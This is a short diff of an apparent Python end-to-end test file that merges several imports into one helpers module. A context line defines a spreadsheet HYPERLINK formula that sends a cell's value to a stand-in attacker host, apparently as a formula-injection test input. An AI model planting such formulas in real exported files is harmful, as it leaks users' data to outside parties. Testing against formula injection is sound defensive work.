@@ -10,9 +10,8 @@ import zipfile
 
 import pytest
 import requests
+from tests.e2e.helpers import Api, register, wait_until
 
-from tests.e2e.conftest import Api
-from tests.e2e.test_journey import register, wait_until
 
 STATIC = os.path.join(os.path.dirname(__file__), "..", "..", "services", "gateway", "static")
 FORMULA = '=HYPERLINK("http://attacker.invalid/?leak="&A1,"Bấm vào đây")'
